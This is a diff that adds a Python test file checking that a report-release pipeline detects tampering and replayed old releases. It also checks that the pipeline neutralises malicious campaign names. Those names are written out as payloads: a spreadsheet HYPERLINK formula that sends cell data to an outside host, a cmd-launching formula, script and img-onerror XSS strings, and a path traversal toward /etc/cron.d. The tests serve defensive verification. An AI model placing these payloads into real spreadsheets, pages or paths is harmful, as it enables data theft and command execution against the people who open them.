@@ -1,0 +1,140 @@
+"""What somebody does to a release on its way: changes it, or hands out an old one as new; and what
+somebody puts into a log so that it reaches whoever opens the release."""
+
+import csv
+import shutil
+from datetime import date, timedelta
+
+import pytest
+
+from tests.pipelines.a_store import DAY, a_night, a_policy, visitors
+from weir.pipelines import verify as verify_module
+from weir.pipelines.disclose import disclose
+from weir.pipelines.share import share
+from weir.pipelines.verify import verify
+from weir.transforms import sheet as sheet_module
+
+NAMES = (
+    '=HYPERLINK("https://example.org/?"&A1,"look")',
+    "@SUM(1+1)*cmd|'/c calc'!A0",
+    "<script>fetch('https://example.org')</script>",
+    '"><img src=x onerror=alert(1)>',
+    "../../../../etc/cron.d/weir",
+)
+
+
+def released(base, day=DAY, campaigns=("spring",)):
+    hits = [
+        hit
+        for number, name in enumerate(campaigns)
+        for hit in visitors(200, 1000 * number, campaign=name)
+    ]
+    night = a_night(base, hits, day=day)
+    disclose(night)
+    return share(
+        night.store, a_policy(), night.stamp, night.keyring("signing"), "acme-ads", [day],
+        today=date(2008, 5, 1),
+    ).path  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def place(tmp_path_factory):
+    """Two releases of two dates, signed with one key, and names that somebody put into the log."""
+    base = tmp_path_factory.mktemp("released")
+    released(base, DAY - timedelta(days=1))
+    released(base, DAY, ("spring", *NAMES))
+    return base
+
+
+@pytest.fixture
+def copied(place, tmp_path):
+    """(the older release, the newer one, the public key), to be tampered with."""
+    home = shutil.copytree(place / "store" / "shared" / "acme-ads", tmp_path / "got")
+    older, newer = sorted(home.iterdir())
+    return older, newer, place / "keys" / "signing.pub.json"
+
+
+class TestTampering:
+    """One bit of any file; and, for one who can write all of them, a manifest that fits."""
+
+    def test_a_changed_bit_of_any_file_is_named(self, copied):
+        _, release, key = copied
+        for path in sorted(release.iterdir()):
+            kept = path.read_bytes()
+            path.write_bytes(kept[:-1] + bytes([kept[-1] ^ 1]))
+            found = verify(release, key)
+            assert not found.ok, path.name
+            assert path.name in {file.path for file in found.wrong}
+            path.write_bytes(kept)
+        assert verify(release, key).ok
+
+    def test_if_no_digest_were_compared_nobody_would_know(self, copied, monkeypatch):
+        _, release, key = copied
+        (release / "traffic.csv").write_text("site,visitors\nwww,1000000\n")
+        monkeypatch.setattr(
+            verify_module, "_checked", lambda _, path, __: verify_module.Checked(path, "intact")
+        )
+        assert verify(release, key).ok
+
+    def test_files_of_another_release_do_not_fit_its_manifest(self, copied):
+        older, newer, key = copied
+        shutil.copy(older / "traffic.parquet", newer / "traffic.parquet")
+        assert [file.path for file in verify(newer, key).wrong] == ["traffic.parquet"]
+
+
+class TestReplay:
+    """Last month's good numbers, in a directory with this month's name."""
+
+    def test_an_old_release_says_of_when_it_is(self, copied):
+        older, newer, key = copied
+        shutil.rmtree(newer)
+        told = verify(older.rename(newer), key).lines()
+        assert f"for acme-ads (advertiser), {DAY - timedelta(days=1)}," in told[1]
+
+    def test_its_manifest_cannot_be_given_another_date(self, copied):
+        older, _, key = copied
+        manifest = older / "manifest.json"
+        was = str(DAY - timedelta(days=1))
+        manifest.write_text(manifest.read_text().replace(was, str(DAY)))
+        assert not verify(older, key).ok
+
+    def test_if_signatures_were_not_checked_it_could(self, copied, monkeypatch):
+        older, _, key = copied
+        manifest = older / "manifest.json"
+        was = str(DAY - timedelta(days=1))
+        manifest.write_text(manifest.read_text().replace(was, str(DAY)))
+        monkeypatch.setattr(verify_module.keys, "verify", lambda *_: None)
+        found = verify(older, key)
+        assert found.release is not None
+        assert found.release.dates == (DAY,)
+
+
+class TestMaliciousNames:
+    """Campaigns that are HTML, a formula, a path: somebody else's tag may send any name."""
+
+    @staticmethod
+    def cells(release):
+        with (release / "campaigns.csv").open(encoding="utf-8-sig", newline="") as file:
+            return [cell for row in csv.reader(file) for cell in row]
+
+    def test_no_cell_is_a_formula(self, copied):
+        _, release, _ = copied
+        cells = self.cells(release)
+        assert any("HYPERLINK" in cell for cell in cells), "or there is nothing to see"
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+
+    def test_if_cells_were_not_guarded_one_would_be(self, tmp_path, monkeypatch):
+        monkeypatch.setattr(sheet_module, "safe_text", lambda text: text)
+        cells = self.cells(released(tmp_path, campaigns=("spring", *NAMES)))
+        assert [cell for cell in cells if cell.startswith("=HYPERLINK")]
+
+    def test_the_report_shows_them_as_text(self, copied):
+        _, release, _ = copied
+        page = (release / "report.html").read_text("utf-8").lower()
+        assert "&lt;script&gt;fetch" in page, "or there is nothing to see"
+        assert "<script" not in page
+        assert "<img" not in page
+
+    def test_no_file_is_named_by_them(self, copied):
+        older, newer, _ = copied
+        assert {p.name for p in newer.iterdir()} == {p.name for p in older.iterdir()}
